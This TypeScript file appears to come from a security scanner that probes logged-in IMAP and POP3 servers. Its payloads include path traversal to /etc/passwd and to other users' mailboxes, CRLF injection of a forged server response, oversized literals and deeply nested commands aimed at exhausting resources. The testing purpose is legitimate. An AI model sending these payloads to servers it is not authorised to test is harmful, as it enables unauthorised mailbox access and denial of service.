/** Attacks on IMAP and POP3 by somebody who has logged in: numbers, depths, names. */
import { HUNG_UP } from "../../probe.ts";
import { broken, held, lost, type Attack, type LoggedIn, type Outcome } from "../contract.ts";
import { Imap, imapLoggedIn, lineFor, linesUntil, pop3 } from "../talk.ts";

const IMAP_DOORS = ["imaps", "imap"] as const;

/** A session with INBOX open. */
const selected = (at: LoggedIn, work: (session: Imap) => Promise<Outcome>): Promise<Outcome> =>
  imapLoggedIn(at, async (session) => {
    const answer = await session.do("SELECT INBOX");
    return answer.status === "OK" ? work(session) : lost(answer.text);
  });

/** None of the commands may be done; a session that ends over one of them is opened anew. */
async function noneDone(
  at: LoggedIn,
  commands: readonly (readonly [name: string, command: string])[],
): Promise<Outcome> {
  const seen = new Set<string>();
  for (const [name, command] of commands) {
    const outcome = await selected(at, async (session) => {
      const answer = await session.do(command);
      if (answer.status === "OK" || answer.text.includes("SERVERBUG"))
        return broken(`${name}: ${answer.text}`);
      if (answer.status === "mute") return broken(`${name}: no answer`);
      return held(answer.text.replace(/^k\d+ /, ""));
    });
    if (outcome.kind !== "held") return outcome;
    seen.add(outcome.saw);
  }
  return held([...seen].join(" | "));
}

const inMailbox = (
  check: Attack["check"],
  commands: readonly (readonly [name: string, command: string])[],
): Attack => ({
  check,
  doors: IMAP_DOORS,
  once: true,
  weight: "light",
  needs: "account",
  run: (at) => noneDone(at, commands),
});

const searchDepth = inMailbox("imap-search-depth", [
  ["2,000 NOT", `SEARCH ${"NOT ".repeat(2_000)}SEEN`],
  ["1,000 OR", `SEARCH ${"OR SEEN ".repeat(1_000)}SEEN`],
  ["2,000 brackets", `SEARCH ${"(".repeat(2_000)}SEEN${")".repeat(2_000)}`],
]);

const sets = inMailbox("imap-sets", [
  ["12,000 ranges", `UID FETCH ${"1,".repeat(12_000)}1 FLAGS`],
  ["a number beyond 32 bits", "UID FETCH 4294967296 FLAGS"],
  ["a number beyond 64 bits", "UID FETCH 1:99999999999999999999 FLAGS"],
  ["zero", "FETCH 0 FLAGS"],
]);

const patterns = inMailbox("imap-list-patterns", [
  ["700 wildcards", `LIST "" "${"%*".repeat(700)}x"`],
  ["80 patterns", `LIST "" (${"a* ".repeat(79)}a*)`],
]);

const flags = inMailbox("imap-flag-flood", [
  ["300 keywords", `UID STORE 1:* +FLAGS (${Array.from({ length: 300 }, (_, i) => `k${i}`).join(" ")})`],
]);

const items = inMailbox("imap-fetch-depth", [
  ["a path of 500 parts", `UID FETCH 1:* BODY.PEEK[${"1.".repeat(499)}1]`],
  ["500 items", `UID FETCH 1:* (${"BODY.PEEK[TEXT] ".repeat(499)}FLAGS)`],
  ["400 header fields", `UID FETCH 1:* BODY.PEEK[HEADER.FIELDS (${"x ".repeat(399)}x)]`],
]);

const foreign = inMailbox("imap-foreign-mailbox", [
  ["a path", "SELECT ../../../../etc/passwd"],
  ["another user by ~", "SELECT ~postmaster/INBOX"],
  ["another user by #", "SELECT #user/postmaster/INBOX"],
  ["user.", "SELECT user.postmaster"],
  ["a path to make", "CREATE ../../escaped"],
  ["a level of dots", "CREATE a/../../escaped"],
]);

const nameInjection: Attack = {
  check: "imap-name-injection",
  doors: IMAP_DOORS,
  once: true,
  weight: "light",
  needs: "account",
  run: (at) =>
    imapLoggedIn(at, async (session) => {
      const name = `${at.token}\r\n* 99 EXISTS`;
      const tag = session.nextTag();
      session.visit.write(`${tag} CREATE {${name.length}+}\r\n${name}`);
      const made = await session.answer(tag);
      if (made.status === "mute") return lost(made.text);
      if (made.status !== "OK") return held(made.text);
      const listed = await session.do('LIST "" *');
      await session.do(`DELETE {${name.length}+}\r\n${name}`);
      return broken(listed.lines.find((one) => one.includes("99 EXISTS")) ?? made.text);
    }),
};

const literals: Attack = {
  check: "imap-literal",
  doors: IMAP_DOORS,
  once: true,
  weight: "light",
  needs: "account",
  run: async (at) => {
    const commands = ["SEARCH SUBJECT {400000}", "APPEND INBOX {99999999999}", "SEARCH SUBJECT {99999999+}"];
    const seen = new Set<string>();
    for (const command of commands) {
      const outcome = await selected(at, async (session) => {
        const { lines, closed } = await linesUntil(session.visit, `k9 ${command}\r\n`, /\r\n/);
        const [answer = ""] = lines;
        if (answer.startsWith("+")) return broken(`${command}: ${answer}`);
        return /^(?:k9 (?:NO|BAD)|\* BYE)/.test(answer) || closed
          ? held(answer)
          : broken(`${command}: it waits`);
      });
      if (outcome.kind !== "held") return outcome;
      seen.add(outcome.saw);
    }
    return held([...seen].join(" | "));
  },
};

const POP3_DOORS = ["pop3s", "pop3"] as const;

const popLine: Attack = {
  check: "pop3-line",
  doors: POP3_DOORS,
  once: true,
  weight: "light",
  needs: "nothing",
  run: (at) =>
    pop3(at, async (visit) => {
      const answer = await lineFor(visit, `USER ${"x".repeat(100_000)}`);
      if (!answer.ok) return answer.error === HUNG_UP ? held(answer.error) : lost(answer.error);
      return answer.value.startsWith("-ERR") ? held(answer.value) : broken(answer.value);
    }),
};

const POP3_ERRORS = 30;

const popGarbage: Attack = {
  check: "pop3-garbage",
  doors: POP3_DOORS,
  once: true,
  weight: "light",
  needs: "nothing",
  run: (at) =>
    pop3(at, async (visit) => {
      for (let count = 1; count <= POP3_ERRORS; count++) {
        const answer = await lineFor(visit, "MISTAKE");
        if (answer.ok) continue;
        return answer.error === HUNG_UP && count > 1
          ? held(`it hung up after ${count - 1} errors`)
          : lost(answer.error);
      }
      return broken(`${POP3_ERRORS} errors in one session`);
    }),
};

const popNumbers: Attack = {
  check: "pop3-numbers",
  doors: POP3_DOORS,
  once: true,
  weight: "light",
  needs: "account",
  run: (at) =>
    pop3(at, async (visit) => {
      await lineFor(visit, `USER ${at.account.login}`);
      const welcome = await lineFor(visit, `PASS ${at.account.password.reveal()}`);
      if (!welcome.ok || !welcome.value.startsWith("+OK"))
        return lost(welcome.ok ? welcome.value : welcome.error);
      const seen = new Set<string>();
      for (const command of [
        "RETR 0",
        "RETR -1",
        "DELE 4294967297",
        "RETR 99999999999999999999",
        "TOP 1 -1",
        "LIST 1e3",
        "UIDL 0x1",
      ]) {
        const answer = await lineFor(visit, command);
        if (!answer.ok) return lost(`${command}: ${answer.error}`);
        if (!answer.value.startsWith("-ERR")) return broken(`${command}: ${answer.value}`);
        seen.add(answer.value);
      }
      return held([...seen].join(" | "));
    }),
};

export const MAILBOX_ATTACKS: readonly Attack[] = [
  literals,
  searchDepth,
  sets,
  patterns,
  items,
  flags,
  foreign,
  nameInjection,
  popLine,
  popGarbage,
  popNumbers,
];
